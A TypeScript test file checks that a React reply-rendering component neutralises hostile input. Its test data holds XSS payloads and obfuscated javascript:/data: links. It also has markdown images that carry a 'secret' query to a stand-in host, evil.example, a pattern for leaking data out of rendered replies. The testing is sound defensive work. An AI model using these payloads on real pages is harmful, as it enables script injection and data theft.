import { renderToStaticMarkup } from "react-dom/server";
import { expect, it } from "vitest";
import ReplyText from "./reply-text.tsx";

const shown = (text: string): string => renderToStaticMarkup(<ReplyText text={text} />);

it.each([
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<a href='javascript:alert(1)'>here</a>",
])("leaves %j as text", (text) => {
  expect(shown(text)).not.toMatch(/<(?:script|img|svg|iframe|a)\b/);
});

it.each([
  "[here](javascript:alert(1))",
  "[here](JaVaScRiPt:alert(1))",
  "[here](&#106;avascript:alert(1))",
  "[here](data:text/html,<script>alert(1)</script>)",
  "[here](vbscript:msgbox)",
  "[here](//evil.example/)",
  "[here](/settings)",
  "<javascript:alert(1)>",
])("leads nowhere by %j", (text) => {
  expect(shown(text)).not.toContain("href=");
});

it("says where a link leads, and gives the page to nobody", () => {
  const html = shown("[your bank](https://evil.example/login)");
  expect(html).toContain('href="https://evil.example/login"');
  expect(html).toContain('rel="noopener noreferrer nofollow"');
  expect(html).toContain("(leads to evil.example, in a new tab)");
});

it.each(["![secret](https://evil.example/p.png?q=secret)", "![x][1]\n\n[1]: https://evil.example/p.png"])(
  "loads no picture for %j",
  (text) => {
    expect(shown(text)).not.toContain("<img");
    expect(shown(text)).toContain("Picture not loaded");
  },
);
